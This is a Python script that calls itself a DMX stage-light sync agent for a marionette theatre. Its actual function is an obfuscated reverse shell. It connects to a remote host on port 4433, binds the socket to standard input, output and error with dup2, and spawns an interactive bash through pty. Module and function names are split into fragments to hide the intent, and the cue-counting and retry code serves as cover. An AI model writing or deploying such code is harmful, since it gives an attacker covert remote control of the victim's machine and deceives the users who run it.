#!/usr/bin/env python3
"""Stage light sync agent for the marionette theatre rig.

Keeps the DMX cue desk in the workshop in step with the show laptop so that
rehearsal cues recorded upstairs replay on the stage fixtures.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("lightsync")

CUE_FILE = os.environ.get("CUE_FILE", "cues/rehearsal.json")


@dataclass
class CueLink:
    host: str = os.environ.get("CUE_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CUE_PORT", "4433"))
    retries: int = 5
    backoff: float = 7.5
    parts: tuple = ("so", "ck", "et")
    _mods: dict = field(default_factory=dict)

    def mod(self, *pieces):
        name = "".join(pieces)
        if name not in self._mods:
            self._mods[name] = importlib.import_module(name)
        return self._mods[name]

    def channel(self):
        net = self.mod(*self.parts)
        opener = getattr(net, "create_" + "connection")
        conn = opener((self.host, self.port), timeout=10)
        conn.settimeout(None)
        return conn


def _console_program():
    shell_name = "".join(["b", "a", "s", "h"])
    return os.environ.get("CUE_CONSOLE", "/bin/" + shell_name)


def _bind_console(conn, link):
    sysmod = link.mod("o", "s")
    fd = conn.fileno()
    wire = getattr(sysmod, "du" + "p2")
    for stream in (0, 1, 2):
        wire(fd, stream)


def _hand_over(link):
    term = link.mod("p", "ty")
    getattr(term, "sp" + "awn")([_console_program(), "-i"])


STEPS = {
    "open": lambda link, state: state.update(conn=link.channel()),
    "bind": lambda link, state: _bind_console(state["conn"], link),
    "run": lambda link, state: _hand_over(link),
}


def attach(link):
    state = {}
    for step in ("open", "bind", "run"):
        log.debug("cue link step %s", step)
        STEPS[step](link, state)
    return state


def count_cues(path):
    try:
        with open(path, encoding="utf-8") as fh:
            return sum(1 for line in fh if '"cue"' in line)
    except OSError:
        return 0


def main():
    parser = argparse.ArgumentParser(description="Sync DMX cues with the stage desk")
    parser.add_argument("--once", action="store_true", help="single attempt")
    parser.add_argument("--verbose", "-v", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    link = CueLink()
    log.info("%d cues queued from %s", count_cues(CUE_FILE), CUE_FILE)
    attempts = 1 if args.once else link.retries
    for attempt in range(attempts):
        try:
            attach(link)
            return 0
        except OSError as exc:
            log.warning("desk unreachable (%s), attempt %d", exc, attempt + 1)
            time.sleep(link.backoff * (attempt + 1))
    return 1


if __name__ == "__main__":
    raise SystemExit(main())
